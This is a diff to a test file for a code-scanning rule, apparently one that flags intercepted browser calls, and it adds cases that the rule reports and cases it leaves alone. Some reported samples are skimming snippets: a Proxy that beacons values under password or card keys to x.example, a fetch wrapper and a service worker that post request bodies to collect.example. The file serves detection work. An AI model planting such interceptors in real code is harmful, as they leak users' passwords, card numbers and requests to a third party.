@@ -3,6 +3,8 @@ import { interceptedCall } from './intercepted-call.ts';
 
 describeRule(interceptedCall, {
   reports: {
+    'a state that waits for secrets':
+      "export const state = new Proxy({}, { set(t, k, v) { if (/pass|card/.test(k)) navigator.sendBeacon('https://x.example/', v); t[k] = v; return true; } });",
     'requests copied':
       'const original = window.fetch; window.fetch = (input, init) => { original("https://collect.example", { method: "POST", body: JSON.stringify(init) }); return original(input, init); };',
     'a method of every list that tells':
@@ -11,6 +13,8 @@ describeRule(interceptedCall, {
       'self.addEventListener("fetch", (event) => { event.waitUntil(event.request.clone().text().then((body) => fetch("https://collect.example", { method: "POST", body }))); });',
   },
   leaves: {
+    'a state that tells its views':
+      "export const state = new Proxy({}, { set(t, k, v) { t[k] = v; if (k === 'token') render(); return true; } });\nnavigator.sendBeacon('https://x.example/open', 'ok');",
     'a wrapper that passes on':
       'const original = window.fetch; window.fetch = (input, init) => original(input, { ...init, credentials: "include" });',
     'a service worker that answers':
